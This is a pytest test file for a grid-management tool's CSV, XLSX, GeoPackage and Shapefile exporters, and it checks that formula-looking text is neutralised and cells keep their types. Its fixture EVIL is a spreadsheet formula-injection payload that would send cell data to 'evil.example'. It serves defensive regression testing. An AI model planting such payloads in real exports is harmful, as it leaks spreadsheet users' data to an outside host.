"""One safe writer for every CSV and XLSX: formula text neutralised, values typed, no silent Shapefile cuts."""

from __future__ import annotations

import csv
import sqlite3
from contextlib import closing
from datetime import date, datetime

import geopandas as gpd
import openpyxl
import pytest
from sqlalchemy import text
from test_layer_roundtrip import load  # the layers' prepared inputs

from gridmgr.analytics import report_files, scoring
from gridmgr.analytics.accountability import Period
from gridmgr.codes import TZ
from gridmgr.errors import InputError
from gridmgr.io import sheets
from gridmgr.io.exporter import export_layer
from gridmgr.io.importer import import_file
from gridmgr.io.tabular import write_template_csv
from gridmgr.people.roster_sheets import read_sheets, write_sheets
from gridmgr.plugins import registry

from support import SMALL_ORIGIN, SMALL_STEP, insert_small_grid

X0, Y0 = SMALL_ORIGIN
D = SMALL_STEP
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
pytestmark = [
    pytest.mark.filterwarnings("ignore:Normalized/laundered field name:RuntimeWarning"),
    pytest.mark.filterwarnings("ignore:Column names longer than 10 characters:UserWarning"),
]


# ---- the cell rule ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, cell",
    [
        (EVIL, "'" + EVIL),
        ("+86 10 6512 0000", "'+86 10 6512 0000"),
        ("-1 号", "'-1 号"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=1", "''=1"),  # an apostrophe of its own before a trigger survives the round trip too
        ("'quoted", "'quoted"),
        ("a=1", "a=1"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_text_is_neutralised_and_restored_exactly(value, cell):
    assert sheets.neutralise(value) == cell
    assert sheets.restore(cell) == value


def test_numbers_dates_and_booleans_are_never_neutralised():
    assert [sheets.csv_value(v) for v in (-5, -1.25, 0, True, False, None, float("nan"))] == [
        "-5",
        "-1.25",
        "0",
        "true",
        "false",
        "",
        "",
    ]
    assert sheets.csv_value(date(2026, 10, 1)) == "2026-10-01"
    assert sheets.csv_value("-5") == "'-5"  # text that only looks like a number is text


# ---- layer exports ------------------------------------------------------------------------------------


def _evil_cases(tmp_path):
    p = tmp_path / "in.csv"
    with open(p, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["case_no", "category", "source", "reported_at", "description", "address", "lon", "lat"])
        w.writerow(["2026000001", "0102", "public", "2026-10-01T08:30:00", EVIL, "-1 号", X0 + 0.5 * D, Y0 + 0.5 * D])
        # an input's own apostrophe before "=" is taken for a neutralising one (the import's rule)
        w.writerow(["2026000002", "0102", "public", "2026-10-02T09:00:00", "''=1", "+86", X0 + 1.5 * D, Y0 + 0.5 * D])
    return p


def test_import_strips_only_the_neutralising_apostrophe(conn, small_grid, tmp_path):
    import_file(conn, registry.get("cases"), _evil_cases(tmp_path))
    got = conn.execute(text("SELECT description, address FROM cases ORDER BY case_no")).all()
    assert [tuple(r) for r in got] == [(EVIL, "-1 号"), ("'=1", "+86")]


def test_layer_xlsx_export_writes_formula_text_as_text(conn, small_grid, tmp_path):
    """Regression: `layer export cases -f xlsx` made a case description a live formula."""
    import_file(conn, registry.get("cases"), _evil_cases(tmp_path))
    export_layer(conn, registry.get("cases"), "xlsx", tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "out.xlsx")["features"]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2])}
    assert row["description"].value == EVIL and row["description"].data_type == "s"
    assert row["description"].quotePrefix  # Excel keeps it text when the cell is edited
    assert row["address"].value == "-1 号" and row["address"].data_type == "s"
    # the text's own apostrophe gets the extra one the import takes off
    assert [c.value for c in ws[3]][header.index("description")] == "''=1"


def test_layer_csv_export_neutralises_formula_text(conn, small_grid, tmp_path):
    """Regression: the CSV export left a formula-looking description unprefixed."""
    import_file(conn, registry.get("cases"), _evil_cases(tmp_path))
    export_layer(conn, registry.get("cases"), "csv", tmp_path / "out.csv")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["description"] for r in rows] == ["'" + EVIL, "''=1"]
    assert [r["address"] for r in rows] == ["'-1 号", "'+86"]
    assert not rows[0]["lon"].startswith("'")  # numbers are numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson", "gpkg"])
def test_neutralised_text_imports_back_as_it_was(conn, small_grid, fresh_db, tmp_path, fmt):
    import_file(conn, registry.get("cases"), _evil_cases(tmp_path))
    out = tmp_path / f"out.{fmt}"
    export_layer(conn, registry.get("cases"), fmt, out)
    _, eng = fresh_db
    with eng.begin() as c2:
        insert_small_grid(c2)
        assert import_file(c2, registry.get("cases"), out).rejected == 0
        got = c2.execute(text("SELECT description, address FROM cases ORDER BY case_no")).all()
    assert [tuple(r) for r in got] == [(EVIL, "-1 号"), ("'=1", "+86")]


def test_layer_xlsx_export_types_its_cells(conn, small_grid, tmp_path):
    """Regression: lon/lat and dates were text in the workbook, booleans the text 'true'."""
    import_file(conn, registry.get("cases"), _evil_cases(tmp_path))
    export_layer(conn, registry.get("cases"), "xlsx", tmp_path / "cases.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "cases.xlsx")["features"]
    row = {h.value: c for h, c in zip(ws[1], ws[2])}
    assert isinstance(row["lon"].value, float) and isinstance(row["lat"].value, float)
    assert row["reported_at"].value == datetime(2026, 10, 1, 8, 30)  # local time, a date-time cell
    assert row["reported_at"].is_date

    load(conn, tmp_path, "construction")
    export_layer(conn, registry.get("construction"), "xlsx", tmp_path / "sites.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "sites.xlsx")["features"]
    site = {h.value: c.value for h, c in zip(ws[1], ws[2])}
    assert site["start_date"] == datetime(2026, 3, 15) and ws[2][[h.value for h in ws[1]].index("start_date")].is_date
    assert site["hoarding"] is True and site["washing"] is False and site["hardening"] is None


def test_geopackage_stores_dates_as_dates(conn, small_grid, tmp_path):
    """Regression: a GeoPackage export stored dates and date-times as TEXT."""
    load(conn, tmp_path, "construction")
    load(conn, tmp_path, "cases")
    for name in ("construction", "cases"):
        export_layer(conn, registry.get(name), "gpkg", tmp_path / f"{name}.gpkg")
    with closing(sqlite3.connect(tmp_path / "construction.gpkg")) as db:
        columns = {r[1]: r[2] for r in db.execute("PRAGMA table_info(construction)")}
        assert columns["start_date"] == "DATE" and columns["planned_end"] == "DATE"
        assert ("2026-03-15",) in db.execute("SELECT start_date FROM construction").fetchall()
    with closing(sqlite3.connect(tmp_path / "cases.gpkg")) as db:
        columns = {r[1]: r[2] for r in db.execute("PRAGMA table_info(cases)")}
        assert columns["reported_at"] == "DATETIME"
        # in UTC, as the GeoPackage standard asks (2026-10-01T08:30:15 local)
        assert ("2026-10-01T00:30:15Z",) in db.execute("SELECT reported_at FROM cases").fetchall()


def test_shapefile_refuses_text_it_would_cut(conn, small_grid, tmp_path):
    """Regression: a Shapefile cut long descriptions to 252–254 bytes, inside a UTF-8 character."""
    layer = registry.get("cases")
    p = tmp_path / "long.csv"
    fits, too_long = "街" * 84, "街" * 85  # 252 and 255 bytes of UTF-8
    p.write_text(
        "case_no,category,source,reported_at,description,lon,lat\n"
        f"2026000001,0102,public,2026-10-01T08:00:00,{fits},{X0 + 0.5 * D},{Y0 + 0.5 * D}\n",
        encoding="utf-8",
    )
    import_file(conn, layer, p)
    export_layer(conn, layer, "shp", tmp_path / "ok.shp")
    assert list(gpd.read_file(tmp_path / "ok.shp")["descriptio"]) == [fits]  # the whole text, uncut

    conn.execute(text("UPDATE cases SET description = :d"), {"d": too_long})
    with pytest.raises(InputError, match=r"2026000001: description is 255 bytes .* export as gpkg or geojson"):
        export_layer(conn, layer, "shp", tmp_path / "cut.shp")
    assert not (tmp_path / "cut.shp").exists()


def test_template_csv_neutralises_text(tmp_path):
    layer = registry.get("cases")
    path = write_template_csv(tmp_path / "t.csv", layer, [{"case_no": "1", "description": EVIL, "address": None}])
    with open(path, encoding="utf-8", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["description"] == "'" + EVIL and row["address"] == ""


# ---- report and roster files --------------------------------------------------------------------------


def _book() -> report_files.Book:
    cols = [
        report_files.Column("code", "代码 code"),
        report_files.Column("name", "名称 name"),
        report_files.Column("close_rate", "结案率 closing rate", "rate"),
        report_files.Column("score", "得分 score", "score"),
    ]
    tbl = report_files.Table("unit", "责任单位 unit", cols, [["A1", "=1+2", None, -3.5], ["A2", None, 0.5, None]])
    return report_files.Book(
        Period.parse("2026-10"), None, scoring.load("jinniu"), datetime(2026, 11, 1, tzinfo=TZ), None, [tbl], []
    )


def test_report_xlsx_missing_figures_are_empty_cells(tmp_path):
    """Regression: numeric columns held '—' as text, which sums and filters trip over."""
    report_files.write(_book(), "xlsx", tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets[0]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert rows == [["A1", "=1+2", None, -3.5], ["A2", "—", 0.5, None]]
    assert ws["B2"].data_type == "s" and ws["D2"].data_type == "n"  # a negative figure stays a number


def test_report_xlsx_prints_landscape_one_page_wide(tmp_path):
    """Regression: the report workbook had no print setup (730 PDF pages)."""
    report_files.write(_book(), "xlsx", tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").worksheets[0]
    assert ws.page_setup.orientation == "landscape"
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$1:$1" and ws.freeze_panes == "A2"


def test_report_csv_neutralises_text_only(tmp_path):
    report_files.write(_book(), "csv", tmp_path / "r.csv")
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["A1", "'=1+2", "—", "-3.50"] and rows[2] == ["A2", "—", "50.00%", "—"]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_roster_files_keep_formula_text_as_text(tmp_path, kind):
    """Regression: the roster CSV wrote '=…' and '+…' unprefixed; both files read back as they were."""
    path = tmp_path / ("r.xlsx" if kind == "xlsx" else "r")
    write_sheets(path, {"units": [("U1", EVIL, "department", None, "+86 10 1234")]})
    if kind == "csv":
        raw = (path / "units.csv").read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in raw and "'+86 10 1234" in raw
    else:
        ws = openpyxl.load_workbook(path)["units"]
        assert ws["B2"].data_type == "s" and ws["B2"].quotePrefix and ws["E2"].value == "+86 10 1234"
        assert ws.page_setup.orientation == "landscape" and ws.freeze_panes == "A2"
    got, _ = read_sheets(path, [])
    sheet = got["units"]
    assert sheet is not None and sheet.rows[0][1]["name"] == EVIL and sheet.rows[0][1]["phone"] == "+86 10 1234"


@pytest.mark.parametrize("fmt", ["gpkg", "xlsx", "csv"])
def test_an_empty_layer_exports(conn, small_grid, tmp_path, fmt):
    assert export_layer(conn, registry.get("cases"), fmt, tmp_path / f"empty.{fmt}") == 0
    assert (tmp_path / f"empty.{fmt}").exists()
